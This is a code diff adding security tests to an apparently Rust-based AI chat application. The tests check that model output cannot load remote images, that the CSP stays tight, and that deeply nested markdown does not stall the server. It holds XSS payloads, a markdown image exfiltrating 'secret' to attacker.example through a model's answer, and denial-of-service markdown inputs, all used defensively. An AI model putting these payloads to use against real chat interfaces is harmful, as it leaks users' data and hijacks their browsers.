@@ -1,11 +1,17 @@
-//! Security: model output is inert, cross-site posts are refused, headers are set, another
-//! user's ids find nothing, and bad input gets clear errors.
+//! Security: model output is inert and loads no remote images, hostile markdown does not stall
+//! the server, cross-site posts are refused, headers are set, another user's ids find nothing,
+//! and bad input gets clear errors.
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::{Duration, Instant};
 
 use loquat_core::ErrorKind;
 use loquat_core::id::UserId;
+use loquat_core::service::SendMessage;
 use loquat_test_support::fake_openai::Reply;
 
-use crate::helpers::TestApp;
+use crate::helpers::{TestApp, TestOptions};
 
 const PAYLOADS: &str = "<script>alert('x')</script>\n\n<img src=x onerror=alert(1)>\n\n\
 [click](javascript:alert(1)) [click2](JAVASCRIPT:alert(2)) [data](data:text/html;base64,PHNjcmlwdD4=)\n\n\
@@ -40,6 +46,117 @@ async fn model_output_cannot_run_script() {
     assert_inert(messages);
     assert!(messages.contains("&lt;script&gt;alert"), "the payload is shown as text");
     assert!(!messages.contains("<b>user html</b>"), "user HTML is not passed through either");
+    app.cleanup().await;
+}
+
+/// Real `<img>` tags whose `src` is on `host` (escaped text does not count).
+fn images_from(html: &str, host: &str) -> usize {
+    html.split('<')
+        .skip(1)
+        .filter(|tag| tag.starts_with("img ") && tag.split('>').next().unwrap_or_default().contains(host))
+        .count()
+}
+
+#[tokio::test]
+async fn model_output_cannot_load_remote_images() {
+    let app = TestApp::spawn_with(TestOptions {
+        configure: |config| config.image_hosts = "img.example.com".into(),
+        ..TestOptions::default()
+    })
+    .await;
+    let assistant = app.default_assistant().await;
+    let answer = "Look: ![x](https://attacker.example/?q=secret) and ![chart](https://img.example.com/c.png)";
+    app.fake.push_reply(Reply::text(answer));
+    let sent = app.send(assistant, None, "show me ![me](https://attacker.example/?q=mine)").await;
+    let events = app.events(sent.answer).await;
+    assert_eq!(events.last().map(|(name, _)| name.as_str()), Some("done"));
+    for (_, data) in &events {
+        let html = data["html"].as_str().unwrap_or_default();
+        assert_eq!(images_from(html, "attacker.example"), 0, "{html}");
+    }
+    let (_, page) = app.page(&format!("/chat/{assistant}/{}", sent.topic)).await;
+    let messages = page.split("id=\"messages\"").nth(1).expect("message list");
+    assert_eq!(images_from(messages, "attacker.example"), 0, "no image from an unknown host loads");
+    assert!(messages.contains("class=\"image-link\" href=\"https://attacker.example/?q=secret\""), "shown as a link");
+    assert!(messages.contains(">x</a>"), "with its alt text");
+    assert_eq!(images_from(messages, "https://img.example.com/c.png"), 1, "an allowed host's image loads");
+
+    let response = app.client.get(app.url(&format!("/chat/{assistant}"))).send().await.expect("page");
+    let csp = response.headers()["content-security-policy"].to_str().expect("ascii").to_owned();
+    assert!(csp.contains("img-src 'self' data: https://img.example.com;"), "{csp}");
+    assert!(!csp.split(';').any(|directive| directive.split_whitespace().any(|source| source == "https:")), "{csp}");
+    app.cleanup().await;
+}
+
+/// Markdown that used to render in time quadratic in its length (tens of seconds each, on the
+/// async workers): deep quotes, deep lists, quotes in lists, and a URL ending in `)`s.
+fn hostile_markdown() -> Vec<String> {
+    vec![
+        ">".repeat(100_000),
+        "* > ".repeat(40_000),
+        "1. ".repeat(60_000),
+        format!("see https://x.io/{}", ")".repeat(100_000)),
+    ]
+}
+
+/// `text` in 4 KB chunks, as a model would stream it.
+fn chunked(text: &str) -> Vec<String> {
+    text.as_bytes().chunks(4096).map(|chunk| String::from_utf8_lossy(chunk).into_owned()).collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_markdown_does_not_stall_the_server() {
+    let app = TestApp::spawn().await;
+    let assistant = app.default_assistant().await;
+    let user = app.admin().await;
+    // Stored through the services, so no view has rendered (and cached) them yet; the answers
+    // are hostile too.
+    let mut topics = Vec::new();
+    for markdown in hostile_markdown() {
+        app.fake.push_reply(Reply::chunks(chunked(&markdown)));
+        let send = SendMessage { assistant_id: assistant, topic_id: None, content: markdown, language: "en".into() };
+        let exchange = app.services.send_message(user, send).await.expect("sent");
+        app.finished(exchange.answer.id).await;
+        app.titled(exchange.topic.id).await;
+        topics.push(exchange.topic.id);
+    }
+    // And one answer streams deep quotes while the pages are viewed.
+    let streamed = "> ".repeat(80_000);
+    app.fake.push_reply(Reply::chunks(chunked(&streamed)).delay_between_chunks(Duration::from_millis(25)));
+    let live = app.send(assistant, None, "quote me").await;
+
+    let stop = Arc::new(AtomicBool::new(false));
+    let prober = tokio::spawn({
+        let (stop, client, url) = (stop.clone(), reqwest::Client::new(), app.url("/healthz"));
+        async move {
+            let mut slowest = Duration::ZERO;
+            while !stop.load(Ordering::Relaxed) {
+                let started = Instant::now();
+                let response = client.get(&url).timeout(Duration::from_secs(60)).send().await;
+                assert_eq!(response.expect("healthz answers").status().as_u16(), 200);
+                slowest = slowest.max(started.elapsed());
+                tokio::time::sleep(Duration::from_millis(50)).await;
+            }
+            slowest
+        }
+    });
+    let urls: Vec<String> =
+        topics.iter().flat_map(|topic| [topic, topic]).map(|topic| format!("/chat/{assistant}/{topic}")).collect();
+    let views = urls.iter().map(|url| app.page(url));
+    let work = async { tokio::join!(futures_util::future::join_all(views), app.events(live.answer)) };
+    let finished = tokio::time::timeout(Duration::from_secs(60), work).await;
+    stop.store(true, Ordering::Relaxed);
+    let slowest = prober.await.expect("prober");
+    let (pages, events) = finished.expect("the views and the stream finish");
+    println!("slowest /healthz while rendering: {slowest:?}");
+    assert!(slowest < Duration::from_secs(1), "/healthz took {slowest:?} while hostile markdown rendered");
+    for (status, page) in &pages {
+        assert_eq!(*status, 200);
+        assert_inert(page.split("id=\"messages\"").nth(1).expect("message list"));
+    }
+    assert!(pages[0].1.contains("&gt;&gt;&gt;&gt;"), "quotes too deep are shown as text");
+    assert!(events.iter().any(|(name, _)| name == "render"), "the answer streamed");
+    assert_eq!(events.last().map(|(name, _)| name.as_str()), Some("done"));
     app.cleanup().await;
 }
 
